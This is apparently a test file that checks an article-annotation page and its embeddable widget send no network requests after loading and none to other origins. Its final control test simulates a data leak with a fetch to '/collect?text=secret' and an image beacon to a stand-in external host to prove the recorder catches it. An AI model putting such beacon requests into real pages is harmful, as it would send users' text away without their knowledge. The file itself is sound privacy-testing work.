// No network: every request of the page and of the widget demo pages is
// recorded (the worker's included). After their own assets have loaded,
// annotating, typing, stepping through spans and clearing make none, and no
// request ever goes to another origin: the text never leaves the machine.
// Requests to other origins are aborted by the test (there is no internet
// here anyway) but recorded first. Controls prove both checks fire.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { startSession, openPage, setArticle, loadExample } from '../page/harness.mjs';
import { startSession as startWidgetSession, waitForWidget } from '../widget/harness.mjs';

const ARTICLE = '“We will not back down,” Minister Ines Valdmaa said on Friday. She warned that unless the union agrees by Monday, the port will close.';

/** Records every request of `context` into the returned list; other origins are aborted. */
async function recordRequests(context, origin) {
  const requests = [];
  context.on('request', (request) => requests.push(request.url()));
  await context.route('**/*', (route) => (route.request().url().startsWith(origin) ? route.continue() : route.abort()));
  return requests;
}

const foreign = (requests, origin) => requests.filter((url) => !url.startsWith(origin) && !url.startsWith('data:'));
const paths = (requests, origin) => requests.map((url) => url.replace(origin, '/'));

let session, widgetSession;
before(async () => { [session, widgetSession] = await Promise.all([startSession(), startWidgetSession()]); });
after(async () => { await session?.close(); await widgetSession?.close(); });

test('page: its own assets only, then no request while annotating', async () => {
  const origin = session.url;
  let requests;
  const { page, close } = await openPage(session, {
    contextOptions: { serviceWorkers: 'block' },
    prepare: async (p) => { requests = await recordRequests(p.context(), origin); },
  });
  try {
    await loadExample(page);
    const loaded = requests.length;
    console.log(`page: ${loaded} requests to load (${paths(requests, origin).join(', ')})`);
    assert.ok(requests.some((url) => url.endsWith('.wasm')), 'the WASM request was not seen: the recorder misses worker requests');
    await setArticle(page, ARTICLE);
    await page.locator('#view [data-first]').first().focus();
    await setArticle(page, `${ARTICLE}\n\n${'“A quote,” he said. '.repeat(20)}`);
    await page.click('#clear-button');
    await page.waitForFunction(() => window.annotator.lastText === '');
    await setArticle(page, ARTICLE);
    assert.deepEqual(requests.slice(loaded), [], 'requests after the page had loaded');
    assert.deepEqual(foreign(requests, origin), []);
  } finally {
    await close();
  }
});

for (const demo of ['demo-blog.html', 'demo-csp.html', 'demo-live.html']) {
  test(`widget ${demo}: its own assets only, then no request while annotating`, async () => {
    const origin = widgetSession.url;
    const context = await widgetSession.browser.newContext({ serviceWorkers: 'block' });
    try {
      const requests = await recordRequests(context, origin);
      const page = await context.newPage();
      await page.goto(new URL(demo, origin).href);
      assert.equal(await waitForWidget(page), 'ready');
      const loaded = requests.length;
      console.log(`${demo}: ${loaded} requests to load (${paths(requests, origin).join(', ')})`);
      for (let i = 0; i < 5; i++) await page.locator('article-annotator button[data-step="1"]').first().click();
      await page.$$eval('article-annotator', (widgets) => Promise.all(widgets.map((w) => w.refresh())));
      assert.deepEqual(requests.slice(loaded), [], 'requests after the widget had loaded');
      assert.deepEqual(foreign(requests, origin), []);
    } finally {
      await context.close();
    }
  });
}

test('control: a request after loading, and one to another origin, are both seen', async () => {
  const origin = session.url;
  let requests;
  const { page, close } = await openPage(session, {
    prepare: async (p) => { requests = await recordRequests(p.context(), origin); },
  });
  try {
    const loaded = requests.length;
    // what a leak would look like: the text sent home, and sent away (CSP
    // lifted for the second, so the request is really made)
    await page.evaluate(() => fetch('/collect?text=secret').catch(() => {}));
    await page.context().newPage().then(async (other) => {
      await other.setContent('<img src="http://192.0.2.1/pixel?text=secret">');
      await other.waitForFunction(() => document.querySelector('img').complete);
    });
    assert.ok(requests.slice(loaded).some((url) => url.includes('/collect?text=secret')));
    assert.deepEqual(foreign(requests, origin), ['http://192.0.2.1/pixel?text=secret']);
  } finally {
    await close();
  }
});
